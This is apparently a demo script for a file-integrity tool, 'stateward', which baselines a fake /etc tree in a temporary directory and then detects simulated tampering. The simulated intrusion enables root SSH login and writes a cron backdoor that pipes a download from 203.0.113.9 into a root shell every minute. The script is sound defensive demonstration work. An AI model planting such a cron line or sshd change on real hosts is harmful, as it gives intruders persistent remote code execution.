#!/usr/bin/env bash
# make demo, host step: a baseline of a temporary tree standing in for a server's /etc, a change
# an intruder might make, and the check (a scan on the fast path, then drift against the baseline).
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
sw="$here/../../.venv/bin/stateward"
work=$(mktemp -d "${TMPDIR:-/tmp}/stateward-host-demo.XXXXXX")
export STATEWARD_STORE="$work/store"
export COLUMNS="${COLUMNS:-120}"
cd "$work"

. "$here/../step.sh"

root="$work/web1"
mkdir -p "$root/etc/ssh" "$root/etc/cron.d" "$root/etc/default"
echo web1 > "$root/etc/hostname"
printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n' > "$root/etc/passwd"
printf 'root:x:0:\nwww-data:x:33:\n' > "$root/etc/group"
printf 'PermitRootLogin no\nPasswordAuthentication no\n' > "$root/etc/ssh/sshd_config"
printf '%s\n' '-----BEGIN OPENSSH PRIVATE KEY-----' 'b3BlbnNzaC1rZXktdjE=' '-----END OPENSSH PRIVATE KEY-----' \
  > "$root/etc/ssh/ssh_host_ed25519_key"
chmod 600 "$root/etc/ssh/ssh_host_ed25519_key"
echo '17 * * * * root cd / && run-parts --report /etc/cron.hourly' > "$root/etc/crontab"
cat > stateward.yaml <<'YAML'
host:
  paths: [/etc]
  rules:
    - path: /etc
      attributes: [type, perm, uid, gid, size, mtime, ctime, inode, sha256]
YAML

step "1. Baseline of host://$root (its /etc: every file hashed, the private key digested with the store's key)"
"$sw" scan "host://$root" --estate web1

step "2. An intruder allows root logins and adds a cron job"
sed -i 's/PermitRootLogin no/PermitRootLogin yes/' "$root/etc/ssh/sshd_config"
echo '* * * * * root curl -s http://203.0.113.9/x | sh' > "$root/etc/cron.d/backdoor"

step "3. The check: a scan on the fast path (only what changed is read again)"
"$sw" scan "host://$root" --estate web1

step "4. The same check as drift: the baseline (observation #1) against the host now"
"$sw" drift 'web1@#1' "host://$root" || true

rm -rf "$work"
